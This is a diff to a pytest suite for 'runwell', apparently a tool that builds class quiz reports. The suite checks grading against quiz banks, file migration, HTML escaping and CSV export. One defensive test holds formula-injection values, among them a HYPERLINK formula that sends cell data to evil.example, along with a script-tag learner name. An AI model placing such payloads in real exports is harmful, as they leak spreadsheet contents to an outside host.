@@ -1,4 +1,5 @@
-"""The class report: `python -m runwell report FILES… [--csv OUT] [--html OUT]`."""
+"""The class report: `python -m runwell report FILES… [--csv OUT] [--html OUT]`, graded against
+the current banks."""
 
 from __future__ import annotations
 
@@ -6,6 +7,7 @@ import csv
 import io
 import json
 import re
+import shutil
 import subprocess
 import sys
 from html.parser import HTMLParser
@@ -16,28 +18,37 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from runwell import NOTICE
+from runwell import NOTICE, course
 from runwell.cli import main
-from runwell.report import (
-    build_report,
-    course_questions,
-    html_page,
-    load_learner_file,
-    questions_csv,
-    read_files,
-)
+from runwell.report import build_report, html_page, load_learner_file, read_files
 
 ROOT = Path(__file__).resolve().parents[1]
+MODEL = course.load(ROOT)
+REVIEW = MODEL.bank("06_review")
+# three real questions of the review quiz, in bank order
+Q1, Q2, Q3 = [q for q in REVIEW.questions if q.type in ("single", "true_false")][:3]
+WARM = next(q for q in MODEL.bank("01_warm_up").questions if q.type == "single")
 
 
-def progress(answers: dict[str, dict[str, tuple[bool, int]]], learner: str | None = None) -> dict:
+def right(q: Any) -> list[str]:
+    return sorted(q.correct_ids)
+
+
+def wrong(q: Any) -> list[str]:
+    return [next(c.id for c in q.shown if not c.correct)]
+
+
+def progress(answers: dict[str, dict[str, tuple[bool, int]]], learner: str | None = None,
+             version: int = 2) -> dict:
+    """A progress file; each answer given as (right?, attempts), for the real question ids."""
+    lookup = {q.id: q for b in MODEL.banks.values() for q in b.questions}
     data: dict[str, Any] = {
         "format": "runwell-progress",
-        "version": 1,
+        "version": version,
         "answers": {
             lesson: {
-                qid: {"answer": 0, "correct": ok, "time": f"2025-01-0{tries}T10:00:00Z",
-                      "attempts": tries}
+                qid: {"answer": (right if ok else wrong)(lookup[qid]) if qid in lookup else ["x"],
+                      "time": f"2025-01-0{tries}T10:00:00Z", "attempts": tries}
                 for qid, (ok, tries) in qs.items()
             }
             for lesson, qs in answers.items()
@@ -55,14 +66,16 @@ def write(path: Path, data: object) -> Path:
 
 @pytest.fixture
 def klass(tmp_path: Path) -> list[Path]:
-    """Three learners; q2 of the review is the one the class misses."""
+    """Three learners; Q2 of the review is the one the class misses."""
     return [
         write(tmp_path / "ana.json", progress(
-            {"06_review": {"q1": (True, 1), "q2": (False, 2)}, "01_warm_up": {"w1": (True, 1)}},
+            {"06_review": {Q1.id: (True, 1), Q2.id: (False, 2)},
+             "01_warm_up": {WARM.id: (True, 1)}},
             learner="Ana",
         )),
-        write(tmp_path / "ben.json", progress({"06_review": {"q1": (True, 3), "q2": (False, 1)}})),
-        write(tmp_path / "cy.json", progress({"06_review": {"q2": (True, 1)}}, learner="")),
+        write(tmp_path / "ben.json",
+              progress({"06_review": {Q1.id: (True, 3), Q2.id: (False, 1)}})),
+        write(tmp_path / "cy.json", progress({"06_review": {Q2.id: (True, 1)}}, learner="")),
     ]
 
 
@@ -73,17 +86,18 @@ def run(capsys: pytest.CaptureFixture[str], *argv: str | Path) -> tuple[int, str
 
 
 def test_per_question_and_per_learner_tables(klass: list[Path]) -> None:
-    files, skipped = read_files(klass)
-    report = build_report(files, skipped)
+    files, skipped = read_files(klass, MODEL)
+    report = build_report(files, MODEL, skipped)
     assert skipped == []
     rows = {(q.lesson, q.question): (q.answered, q.correct, q.attempts) for q in report.questions}
     assert rows == {
-        ("01_warm_up", "w1"): (1, 1, 1),
-        ("06_review", "q1"): (2, 2, 4),
-        ("06_review", "q2"): (3, 1, 4),
+        ("01_warm_up", WARM.id): (1, 1, 1),
+        ("06_review", Q1.id): (2, 2, 4),
+        ("06_review", Q2.id): (3, 1, 4),
     }
-    q2 = next(q for q in report.questions if q.question == "q2")
+    q2 = next(q for q in report.questions if q.question == Q2.id)
     assert q2.percent_correct == pytest.approx(100 / 3)
+    assert q2.text == " ".join(Q2.text.split())
     learners = {s.learner: (s.answered, s.correct, s.lessons, s.last_answer)
                 for s in report.learners}
     # the name comes from the "learner" field, else (missing or blank) from the file name
@@ -92,7 +106,14 @@ def test_per_question_and_per_learner_tables(klass: list[Path]) -> None:
         "ben": (2, 1, 1, "2025-01-03T10:00:00Z"),
         "cy": (1, 1, 1, "2025-01-01T10:00:00Z"),
     }
-    assert [q.question for q in report.most_missed()] == ["q2"]  # q1, w1: nobody missed them
+    assert [q.question for q in report.most_missed()] == [Q2.id]
+
+
+def test_questions_follow_bank_order(klass: list[Path]) -> None:
+    files, _ = read_files(klass, MODEL)
+    order = [q.question for q in build_report(files, MODEL).questions if q.lesson == "06_review"]
+    bank_order = [q.id for q in REVIEW.questions if q.id in order]
+    assert order == bank_order
 
 
 def test_cli_prints_tables_and_writes_csv(klass: list[Path], tmp_path: Path,
@@ -101,14 +122,14 @@ def test_cli_prints_tables_and_writes_csv(klass: list[Path], tmp_path: Path,
     status, out, err = run(capsys, *klass, "--csv", out_csv)
     assert status == 0
     assert "Per question" in out and "Per learner" in out
-    assert re.search(r"06_review\s+q2\s+3\s+1\s+33\.3", out)
+    assert re.search(rf"06_review\s+{Q2.id}\s+3\s+1\s+33\.3", out)
     rows = list(csv.DictReader(io.StringIO(out_csv.read_text(encoding="utf-8"))))
-    assert [(r["lesson"], r["question"], r["answered"], r["correct"], r["percent_correct"])
-            for r in rows] == [
-        ("01_warm_up", "w1", "1", "1", "100.0"),
-        ("06_review", "q1", "2", "2", "100.0"),
-        ("06_review", "q2", "3", "1", "33.3"),
-    ]
+    assert {(r["lesson"], r["question"], r["answered"], r["correct"], r["percent_correct"])
+            for r in rows} == {
+        ("01_warm_up", WARM.id, "1", "1", "100.0"),
+        ("06_review", Q1.id, "2", "2", "100.0"),
+        ("06_review", Q2.id, "3", "1", "33.3"),
+    }
     per_learner = list(csv.DictReader(
         io.StringIO((tmp_path / "out" / "class-learners.csv").read_text(encoding="utf-8"))))
     assert [(r["learner"], r["answered"], r["correct"]) for r in per_learner] == [
@@ -116,23 +137,76 @@ def test_cli_prints_tables_and_writes_csv(klass: list[Path], tmp_path: Path,
     assert "wrote" in err
 
 
+def test_a_corrected_key_regrades_every_learner(klass: list[Path], tmp_path: Path) -> None:
+    root = tmp_path / "course"
+    shutil.copytree(ROOT / "notebooks" / "quizzes", root / "notebooks" / "quizzes")
+    bank = root / "notebooks" / "quizzes" / "06_review.yaml"
+    text = bank.read_text(encoding="utf-8")
+    start = text.index(f"  - id: {Q2.id}\n")
+    end = text.find("\n  - id: ", start + 1)
+    end = len(text) if end < 0 else end
+    block = text[start:end]
+    # swap the key: the first wrong choice becomes right, the right one wrong
+    new_right = wrong(Q2)[0]
+    old_right = right(Q2)[0]
+    lines = block.split("\n")
+    out, current = [], None
+    for line in lines:
+        m = re.match(r"\s+- id: (\S+)", line) or re.match(r'\s+- text: "(True|False)"', line)
+        if m:
+            current = m.group(1).lower()
+        if line.strip() == "correct: true" and current == old_right:
+            continue
+        out.append(line)
+        if current == new_right and re.match(r"\s+(text|  text): ", line.replace("- ", "  ")):
+            indent = re.match(r"(\s*)", line.replace("- ", "  ")).group(1)  # type: ignore[union-attr]
+            out.append(f"{indent}correct: true")
+            current = None
+    bank.write_text(text[:start] + "\n".join(out) + text[end:], encoding="utf-8")
+    corrected = course.load(root)
+    assert corrected.bank("06_review").question(Q2.id).correct_ids == {new_right}  # type: ignore[union-attr]
+    files, _ = read_files(klass, corrected)
+    q2 = next(q for q in build_report(files, corrected).questions if q.question == Q2.id)
+    assert (q2.answered, q2.correct) == (3, 2)  # Ana and Ben's answers are right now
+
+
+def test_answers_that_no_longer_fit_are_listed_not_counted(tmp_path: Path,
+                                                           capsys: pytest.CaptureFixture[str]
+                                                           ) -> None:
+    data = progress({"06_review": {Q1.id: (True, 1), "review-gone": (True, 1)}}, "Dee")
+    data["answers"]["06_review"][Q2.id] = {"answer": ["removed-choice"], "attempts": 1}
+    status, out, _ = run(capsys, write(tmp_path / "dee.json", data))
+    assert status == 0
+    assert "Answers not counted (2)" in out
+    assert f"Dee: 06_review: {Q2.id}: a chosen answer is no longer one of the question's" in out
+    assert "Dee: 06_review: review-gone: no such question in the lesson's quiz" in out
+    assert re.search(r"Dee\s+\S*dee\.json\s+1\s+1\s+100\.0\s+1\s+\S+\s+2", out)
+
+
+def test_a_version_1_file_is_migrated_and_graded(tmp_path: Path) -> None:
+    v1 = Path(__file__).parent / "fixtures" / "progress" / "v1_made_by_runwell_0.1.0.json"
+    learner = load_learner_file(v1, MODEL)
+    assert len(learner.records) + len(learner.orphans) == 49
+    assert learner.learner == "Ana Lucía (v1)"
+
+
 BAD_FILES = {
     "notes.json": ({"todo": []}, "not a runwell progress file"),
     "list.json": ([1, 2], "not a runwell progress file"),
-    "truncated.json": ('{"format": "runwell-progress", "vers', "not JSON"),
+    "truncated.json": ('{"format": "runwell-progress", "vers', "not valid JSON"),
     "latin1.json": (None, "not UTF-8"),
     "future.json": ({"format": "runwell-progress", "version": 9, "answers": {}},
-                    "unsupported progress file version 9"),
-    "answers.json": ({"format": "runwell-progress", "version": 1, "answers": []},
+                    "written by a newer runwell"),
+    "answers.json": ({"format": "runwell-progress", "version": 2, "answers": []},
                      "'answers' is not an object"),
     "correct.json": ({"format": "runwell-progress", "version": 1,
-                      "answers": {"06_review": {"q1": {"correct": "yes"}}}},
+                      "answers": {"06_review": {"q1": {"answer": "x", "correct": "yes"}}}},
                      "answers.06_review.q1: 'correct' is missing or not true/false"),
-    "attempts.json": ({"format": "runwell-progress", "version": 1,
-                       "answers": {"06_review": {"q1": {"correct": True, "attempts": -1}}}},
+    "attempts.json": ({"format": "runwell-progress", "version": 2,
+                       "answers": {"06_review": {"q1": {"answer": ["a"], "attempts": -1}}}},
                       "answers.06_review.q1: 'attempts'"),
-    "name.json": ({"format": "runwell-progress", "version": 1, "learner": 7, "answers": {}},
-                  "'learner' is not a string"),
+    "name.json": ({"format": "runwell-progress", "version": 2, "learner": 7, "answers": {}},
+                  "'learner' is not a short text"),
 }
 
 
@@ -175,10 +249,10 @@ def test_folders_expand_and_duplicate_names_are_told_apart(tmp_path: Path) -> No
     # collected from JupyterHub home folders: every file is called progress.json
     for user in ("u1", "u2"):
         (tmp_path / user).mkdir()
-        write(tmp_path / user / "progress.json", progress({"06_review": {"q1": (True, 1)}}))
-    files, skipped = read_files([tmp_path, tmp_path / "u1" / "progress.json"])
+        write(tmp_path / user / "progress.json", progress({"06_review": {Q1.id: (True, 1)}}))
+    files, skipped = read_files([tmp_path, tmp_path / "u1" / "progress.json"], MODEL)
     assert len(files) == 2 and skipped == []  # the file named twice is read once
-    names = [s.learner for s in build_report(files).learners]
+    names = [s.learner for s in build_report(files, MODEL).learners]
     assert len(set(names)) == 2
     assert all(n.startswith("progress (") for n in names)
 
@@ -199,7 +273,7 @@ class _Page(HTMLParser):
 def test_html_page_is_accessible_self_contained_and_escaped(
     klass: list[Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    write(klass[0], progress({"06_review": {"q2": (False, 1)}}, learner="<script>x</script>"))
+    write(klass[0], progress({"06_review": {Q2.id: (False, 1)}}, learner="<script>x</script>"))
     out_html = tmp_path / "report.html"
     status, _, _ = run(capsys, *klass, "--html", out_html)
     assert status == 0
@@ -213,7 +287,7 @@ def test_html_page_is_accessible_self_contained_and_escaped(
     assert "<title>Running Without Back Pain: class report</title>" in page
     svg = next(a for t, a in parsed.tags if t == "svg")
     assert svg["role"] == "img" and svg["aria-labelledby"] == "chart-title chart-desc"
-    assert re.search(r'<desc id="chart-desc">06_review q2: 2 of 3 missed', page)
+    assert re.search(rf'<desc id="chart-desc">06_review {Q2.id}: 2 of 3 missed', page)
     # the chart's figures are also in a table (the fallback for screen readers and print)
     assert "<caption>Most-missed questions</caption>" in page
     assert tags.count("table") == 3 and ("th", {"scope": "col"}) in parsed.tags
@@ -222,29 +296,32 @@ def test_html_page_is_accessible_self_contained_and_escaped(
 
 
 def test_html_without_misses_has_no_chart(tmp_path: Path) -> None:
-    files, _ = read_files([write(tmp_path / "a.json", progress({"06_review": {"q": (True, 1)}}))])
-    page = html_page(build_report(files))
+    files, _ = read_files([write(tmp_path / "a.json",
+                                 progress({"06_review": {Q1.id: (True, 1)}}))], MODEL)
+    page = html_page(build_report(files, MODEL))
     assert "<svg" not in page and "nothing to chart" in page
 
 
 def test_chart_shows_the_worst_ten_worst_first(tmp_path: Path) -> None:
-    qs = {f"q{k:02d}": (False, 1) for k in range(15)}
-    qs.update({"easy": (True, 1)})
-    learners = [write(tmp_path / f"l{n}.json", progress(
-        {"06_review": {q: (ok or n < int(q[1:]) if q != "easy" else True, 1)
-                       for q, (ok, _) in qs.items()}}))
-        for n in range(15)]
-    files, _ = read_files(learners)
-    worst = build_report(files).most_missed()
-    assert [q.question for q in worst] == [f"q{k:02d}" for k in range(10)]
-    page = html_page(build_report(files))
-    assert page.count('class="bar"') == 10
+    questions = [q for b in MODEL.usable_banks.values() for q in b.questions
+                 if q.type != "numeric"][:16]
+    easy, hard = questions[0], questions[1:]
+    learners = []
+    for n in range(15):
+        answers: dict[str, dict[str, tuple[bool, int]]] = {}
+        lesson_of = {q.id: name for name, b in MODEL.banks.items() for q in b.questions}
+        answers.setdefault(lesson_of[easy.id], {})[easy.id] = (True, 1)
+        for k, q in enumerate(hard):
+            answers.setdefault(lesson_of[q.id], {})[q.id] = (n < k, 1)
+        learners.append(write(tmp_path / f"l{n}.json", progress(answers)))
+    files, _ = read_files(learners, MODEL)
+    worst = build_report(files, MODEL).most_missed()
+    assert [q.question for q in worst] == [q.id for q in hard[:10]]
+    assert html_page(build_report(files, MODEL)).count('class="bar"') == 10
 
 
 records = st.dictionaries(
-    st.sampled_from(["00_welcome", "03_supportive_shoes", "06_review"]),
-    st.dictionaries(st.text("abc-", min_size=1, max_size=3),
-                    st.tuples(st.booleans(), st.integers(1, 5)), max_size=4),
+    st.sampled_from([Q1.id, Q2.id, Q3.id]), st.tuples(st.booleans(), st.integers(1, 5)),
     max_size=3,
 )
 
@@ -255,49 +332,61 @@ def test_totals_agree_between_the_two_tables(class_answers: list[dict]) -> None:
     import tempfile
 
     with tempfile.TemporaryDirectory() as tmp:
-        paths = [write(Path(tmp) / f"{n}.json", progress(a)) for n, a in enumerate(class_answers)]
-        report = build_report([load_learner_file(p) for p in paths])
+        paths = [write(Path(tmp) / f"{n}.json", progress({"06_review": a}))
+                 for n, a in enumerate(class_answers)]
+        report = build_report([load_learner_file(p, MODEL) for p in paths], MODEL)
     assert sum(q.answered for q in report.questions) == sum(s.answered for s in report.learners)
     assert sum(q.correct for q in report.questions) == sum(s.correct for s in report.learners)
     assert all(0 <= q.percent_correct <= 100 for q in report.questions)
     assert len(report.learners) == len(class_answers)
 
 
-def test_a_thousand_learners_in_seconds() -> None:
+def test_the_benchmark_runs_a_thousand_learners() -> None:
     result = subprocess.run(
-        [sys.executable, str(ROOT / "scripts" / "bench_report.py"), "--learners", "1000",
-         "--budget", "10"],
-        capture_output=True, text=True, timeout=120, check=False,
+        [sys.executable, str(ROOT / "scripts" / "bench_report.py"), "--learners", "1000"],
+        capture_output=True, text=True, timeout=300, check=False,
     )
     print(result.stdout)
     assert result.returncode == 0, result.stderr
     assert "learners read      1000 (2 files skipped)" in result.stdout
 
 
-def test_question_text_and_bank_order_come_from_the_banks(tmp_path: Path) -> None:
-    quizzes = tmp_path / "course" / "notebooks" / "quizzes"
-    quizzes.mkdir(parents=True)
-    (quizzes / "06_review.yaml").write_text(
-        "lesson: 06_review\ntitle: Review\nquestions:\n"
-        "  - {id: zeta, type: true_false, text: 'Heat can   help?'}\n"
-        "  - {id: alpha, type: true_false, text: Run on hills?}\n",
-        encoding="utf-8",
-    )
-    (quizzes / "broken.yaml").write_text("questions: [", encoding="utf-8")
-    known = course_questions(tmp_path / "course")
-    assert known == {("06_review", "zeta"): (0, "Heat can help?"),
-                     ("06_review", "alpha"): (1, "Run on hills?")}
-    path = write(tmp_path / "a.json", progress(
-        {"06_review": {"alpha": (False, 1), "zeta": (True, 1), "old-id": (False, 1)}}))
-    report = build_report(*read_files([path]), known)
-    assert [(q.question, q.text) for q in report.questions] == [
-        ("zeta", "Heat can help?"), ("alpha", "Run on hills?"), ("old-id", "")]
-    rows = list(csv.DictReader(io.StringIO(questions_csv(report))))
-    assert [r["text"] for r in rows] == ["Heat can help?", "Run on hills?", ""]
-    page = html_page(report)
-    assert "<td>Run on hills?</td>" in page
-    assert "06_review / alpha: 1 of 1 missed: Run on hills?</title>" in page
-    assert course_questions(tmp_path / "nowhere") == {}
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path: Path,
+                                                           capsys: pytest.CaptureFixture[str]
+                                                           ) -> None:
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1+1)",
+               "\tcmd", "\rcmd"]
+    paths = [write(tmp_path / f"h{n}.json",
+                   progress({"06_review": {Q1.id: (True, 1)}}, learner=name))
+             for n, name in enumerate(hostile)]
+    out = tmp_path / "class.csv"
+    assert run(capsys, *paths, "--csv", out)[0] == 0
+    rows = list(csv.reader(io.StringIO((tmp_path / "class-learners.csv").read_text())))
+    assert len(rows) == 1 + len(hostile)
+    for row in rows[1:]:
+        # the learner name is text, never a formula (tabs and returns are folded away first)
+        assert row[0].startswith("'") or row[0].startswith("cmd ("), row
+        for cell in row[2:6]:  # numbers stay numbers
+            float(cell)
+    for row in csv.reader(io.StringIO(out.read_text())):
+        assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_html_report_is_refused_over_its_own_input_and_over_files_it_did_not_write(
+    klass: list[Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    before = klass[0].read_bytes()
+    status, _, err = run(capsys, *klass, "--html", klass[0])
+    assert status == 1 and klass[0].read_bytes() == before
+    assert "is one of the progress files being read" in err and err.count("\n") == 1
+    mine = tmp_path / "notes.html"
+    mine.write_text("<p>my lesson plan</p>")
+    status, _, err = run(capsys, *klass, "--html", mine)
+    assert status == 1 and mine.read_text() == "<p>my lesson plan</p>"
+    assert "was not written by `runwell report`" in err
+    ours = tmp_path / "class.html"
+    assert run(capsys, *klass, "--html", ours)[0] == 0
+    assert run(capsys, *klass, "--html", ours)[0] == 0  # its own earlier report: replaced
 
 
 @pytest.mark.browser
